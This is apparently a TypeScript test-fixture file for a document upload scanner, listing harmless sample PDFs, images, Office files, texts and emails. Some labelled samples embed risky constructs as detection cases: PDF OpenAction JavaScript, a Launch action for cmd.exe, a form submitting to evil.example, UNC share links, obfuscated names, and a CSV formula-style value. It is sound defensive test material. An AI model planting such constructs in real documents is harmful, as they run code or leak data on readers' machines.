import { drawPdf } from '../src/demo/draw-pdf.ts'
import { archive, officeFile, officeParts } from './archives.ts'
import { drawHouse, drawPng } from './draw-png.ts'
import {
  bytes,
  encryptedPdf,
  jpeg,
  mail,
  manyPages,
  packedObjects,
  pdf,
  pdfForm,
  pdfLink,
  pdfWith,
  png,
  type Sample,
  streamObject,
  tiff,
} from './sample-files.ts'

const text = (name: string, content: string | Buffer): Sample => ({ name, bytes: Buffer.from(content) })
const manyLines = Array.from({ length: 120 }, (_, line) => `Line ${line} (with brackets) and a \\ backslash`)

const pdfs: Sample[] = [
  { name: 'statement.pdf', bytes: pdf },
  { name: 'STATEMENT.PDF', bytes: pdf },
  { name: 'many pages.pdf', bytes: drawPdf('Many', manyLines) },
  { name: 'no lines.pdf', bytes: drawPdf('', []) },
  { name: 'packed objects.pdf', bytes: pdfWith('', packedObjects('<< /Type /Font /BaseFont /Courier >>')) },
  {
    name: 'objects packed plainly.pdf',
    bytes: pdfWith('', streamObject('/Type /ObjStm /N 1 /First 5', Buffer.from('9 0  << /A /B >>'))),
  },
  // A picture's bytes may spell anything.
  {
    name: 'names in a picture.pdf',
    bytes: pdfWith(
      '',
      streamObject(
        '/Subtype /Image',
        Buffer.from('\x01\x02 /JS /JavaScript /Launch /Encrypt \xff obj 12 obj', 'latin1'),
      ),
    ),
  },
  {
    name: 'long picture.pdf',
    bytes: pdfWith('', streamObject('/Subtype /Image', Buffer.alloc(3 << 20, '/JS (x) obj '))),
  },
  { name: 'long dictionary.pdf', bytes: pdfWith(`/Names [${'(entry) '.repeat(200_000)}]`) },
  {
    name: 'link.pdf',
    bytes: pdfLink('/S /URI /URI (https://seller.example/Launch)'),
  },
  ...[
    ['link that spells a name', pdfWith('', '<< /S /URI /URI (https://seller.example/JS/JavaScript) >>')],
    ['words in a string', pdfWith('/A (>>stream endobj \\) trailer park ( obj ))')],
    ['name in a comment', pdfWith('% /JS (x)\n')],
    ['packed link', pdfWith('', packedObjects('<< /URI (https://seller.example/JS) /A <2f4a53> >>'))],
    ['packed once in an array', pdfWith('', packedObjects('<< >>', '/Filter [ /Fl#61teDecode ]'))],
    [
      'packed without foretelling',
      pdfWith('', packedObjects('<< >>', '/Filter /FlateDecode /DecodeParms << /Predictor 1 >>')),
    ],
    [
      'table with foretelling',
      pdfWith(
        '',
        streamObject('/Type /XRef /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>', Buffer.from('x')),
      ),
    ],
    ['space behind the stream', pdfWith('', '<< /Length 1 >> % of a letter\nstream  \nx\nendstream')],
    ['line before', Buffer.concat([Buffer.from('\r\n@PJL JOB (scan\r\n'), pdf])],
    ['mark before', Buffer.concat([Buffer.from('\ufeff'), pdf])],
  ].map(([name, content]) => ({ name: `${name}.pdf`, bytes: Buffer.from(content ?? '') })),
  { name: 'wrong count.pdf', bytes: manyPages(1, 2_000_000_000) },
  { name: 'form.pdf', bytes: pdfWith('/AcroForm << /Fields [] >>') },
  { name: 'after a mark.pdf', bytes: Buffer.concat([pdf, Buffer.from('\n\n')]) },
]

const labelled: Sample[] = [
  ['open script', pdfWith('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), 'SCRIPTS'],
  ['spelt script', pdfWith('/OpenAction << /S /J#61vaScript /J#53 (x) >>'), 'SCRIPTS'],
  ['packed script', pdfWith('', packedObjects('<< /S /JavaScript /JS (x) >>')), 'SCRIPTS'],
  ['form with field scripts', pdfForm('/AA << /K << /S /JavaScript /JS (AFNumber_Keystroke\\(2\\)) >> >>'), 'SCRIPTS'],
  ['film', pdfWith('', '<< /Subtype /RichMedia >>'), 'SCRIPTS'],
  ['form that is submitted', pdfForm('/A << /S /SubmitForm /F (https://evil.example) >>'), 'OUTSIDE'],
  ['attached', pdfWith('', streamObject('/Type /EmbeddedFile', Buffer.from('<xml/>'))), 'ATTACHMENTS'],
  [
    'attached by name',
    pdfWith(
      '/Names << /EmbeddedFiles << /Names [(a.xml) 4 0 R] >> >>',
      '<< /F (a.xml) /EF << /F 5 0 R >> >>',
      streamObject('', Buffer.from('x')),
    ),
    'ATTACHMENTS',
  ],
  ['launch', pdfWith('/OpenAction << /S /Launch /F (cmd.exe) >>'), 'OUTSIDE'],
  ['packed launch', pdfWith('', packedObjects('<< /S /L#61unch >>')), 'OUTSIDE'],
  ['link to a share', pdfLink('/S /GoToR /F (\\\\\\\\evil\\\\a.pdf)'), 'OUTSIDE'],
  ['link to a file', pdfLink('/S /URI /URI (file:///c:/a.pdf)'), 'OUTSIDE'],
  ['address of a share', pdfLink('/S /URI /URI (\\\\\\\\evil\\\\a)'), 'OUTSIDE'],
  ['encrypted without a password', encryptedPdf(''), 'RESTRICTED'],
].map(([name, content, fact]) => ({ name: `${name}.pdf`, bytes: content, facts: [fact] }) as Sample)

const pictures: Sample[] = [
  { name: 'a.png', bytes: png },
  { name: 'house.png', bytes: drawHouse([225, 205, 170]) },
  { name: 'one pixel.png', bytes: drawPng(1, 1, () => [0, 0, 0]) },
  { name: 'wide.png', bytes: drawPng(3000, 2, () => [9, 9, 9]) },
  { name: 'a.jpg', bytes: jpeg() },
  { name: 'a.jpeg', bytes: jpeg({ width: 6000, height: 4000 }) },
  { name: 'A.JPG', bytes: jpeg() },
  { name: 'from a phone.jpg', bytes: jpeg({ behind: Buffer.from('what phones keep behind the picture') }) },
  { name: 'padded.jpg', bytes: Buffer.concat([bytes('ffd8 ffff ff'), jpeg().subarray(3)]) },
  { name: 'little.tif', bytes: tiff() },
  { name: 'big.tiff', bytes: tiff({ isLittle: false }) },
  { name: 'fax.tif', bytes: tiff({ pages: 30 }) },
  { name: 'fax.TIFF', bytes: tiff({ pages: 3, isLittle: false, width: 1728, height: 2200 }) },
]

const office: Sample[] = [
  { name: 'letter.docx', bytes: officeFile('docx') },
  { name: 'Letter.DOCX', bytes: officeFile('docx') },
  { name: 'sheet.xlsx', bytes: officeFile('xlsx') },
  {
    name: 'with printer.xlsx',
    bytes: officeFile('xlsx', { parts: [{ name: 'xl/printerSettings/printerSettings1.bin', content: 'ink' }] }),
  },
  { name: 'with font.docx', bytes: officeFile('docx', { parts: [{ name: 'word/fonts/font1.odttf', content: 'Aa' }] }) },
  {
    name: 'with drawing.docx',
    bytes: officeFile('docx', { parts: [{ name: 'word/media/image2.svg', content: '<svg/>' }] }),
  },
  { name: 'with folders.docx', bytes: archive([...officeParts('docx'), { name: 'word/', content: '', stored: true }]) },
  {
    name: 'with mail link.docx',
    bytes: officeFile('docx', {
      links: '<Relationship Id="r9" Type="x/hyperlink" Target="mailto:ana@seller.example" TargetMode="External"/>',
    }),
  },
  {
    name: 'repetitive.xlsx',
    bytes: officeFile('xlsx', {
      parts: [{ name: 'xl/worksheets/sheet1.xml', content: `<row>${'<c><v>0</v></c>'.repeat(400_000)}</row>` }],
    }),
  },
  {
    name: 'with formulas.xlsx',
    bytes: officeFile('xlsx', {
      parts: [
        {
          name: 'xl/worksheets/sheet1.xml',
          content:
            '<row><c><f>IF(A1|B1,"CALL (555) or WEBSERVICE(",MYIMAGE(A1))</f></c><c><v>WEBSERVICE(A1)</v></c></row>',
        },
      ],
    }),
  },
  {
    name: 'with fields.docx',
    bytes: officeFile('docx', {
      parts: [
        {
          name: 'word/footer1.xml',
          content:
            '<p><fldSimple instr="PAGE"/><instrText>HYPERLINK "https://seller.example"</instrText><t>INCLUDEPICTURE</t></p>',
        },
      ],
    }),
  },
  {
    name: 'with many links.docx',
    bytes: officeFile('docx', {
      links: '<Relationship Id="r9" Type="x/hyperlink" Target="https://seller.example" TargetMode="External"/>'.repeat(
        20_000,
      ),
    }),
  },
  { name: 'with comment.docx', bytes: archive(officeParts('docx'), { comment: 'made by a scanner' }) },
]

const utf16 = (content: string) => Buffer.from(`\ufeff${content}`, 'utf16le')
const texts: Sample[] = [
  text('note.txt', 'Two months, all pages.\r\n'),
  text('one letter.txt', 'x'),
  text('marked.txt', '\ufeffUTF-8 with its mark'),
  text('wide.txt', utf16('Größe, 値, значение')),
  text('wide big.txt', utf16('Größe').swap16()),
  text('windows.txt', Buffer.from('Gr\xf6\xdfe, \x93quoted\x94, 5 \x80', 'latin1')),
  text('scripts.txt', '値 значение قيمة ערך मूल्य 👩‍👩‍👧'),
  text('form feed.txt', 'page one\f\r\npage two\ttab'),
  text('comparison.txt', '<ltv> must be < 80 & > 0: a < b\n'),
  text('talk of scripts.txt', 'The <script> tag was mentioned, and <svg> too.'),
  text('two pieces.txt', `${'é'.repeat(700_000)}`),
  text('table.csv', 'Account,Amount\r\nChecking,100.00\r\n"Smith, J.",-5\r\n'),
  text('debits.csv', 'Date,Amount\n2026-01-02,-100\n2026-01-03,+20\n@note,=1+1\n'),
  text('semicolons.csv', 'a;b\n1,5;2,5\n'),
  text('bars.csv', 'name|amount!\nx|2!\n'),
  text('talk in a table.csv', '1,- paid off | see file!\n2,+ | x!\n'),
  text('ended as by dos.csv', 'a,b\r\n1,2\r\n\u001a'),
  text('ended as by dos.txt', 'Two months.\r\n\u001a'),
  text('wide and ended.txt', utf16('Größe\u001a')),
  text('excel.csv', Buffer.from('Stra\xdfe,Betrag\r\n', 'latin1')),
  { name: 'mail.eml', bytes: mail() },
  { name: 'unix mail.eml', bytes: Buffer.from(mail().toString().replaceAll('\r\n', '\n')) },
  {
    name: 'mail with pdf.eml',
    bytes: mail('JVBERi0xLjQK', 'Content-Disposition: attachment; filename="statement.pdf"\r\n'),
  },
  { name: 'mail with html.eml', bytes: mail('<html><body>Hello</body></html>', 'Content-Type: text/html\r\n') },
  {
    name: 'mail of an address.eml',
    bytes: mail('JVBERi0xLjQK', 'Content-Disposition: attachment; filename="acme.com statement.pdf"\r\n'),
  },
  {
    name: 'encoded name.eml',
    bytes: mail('JVBERi0', 'Content-Type: x/y; name="=?utf-8?Q?Gr=C3=B6=C3=9Fe=2Epdf?="\r\n'),
  },
  { name: 'of a mailbox.eml', bytes: Buffer.concat([Buffer.from('From - Mon Mar  2 10:00:00 2026\r\n'), mail()]) },
  { name: 'received.eml', bytes: Buffer.from('Received: from a by b; Mon, 2 Mar 2026\n\nHello') },
]

const odd = ['名前 書類.pdf', 'ملف.pdf', 'файл.pdf', '👩‍👩‍👧.pdf', 'a.b.c.pdf', "o'brien & sons (final) #2 100%.pdf"]

/** Files that people really send, and that must pass. */
export const harmlessFiles: Sample[] = [
  ...pdfs,
  ...labelled,
  ...pictures,
  ...office,
  ...texts,
  ...odd.map((name) => ({ name, bytes: pdf })),
]
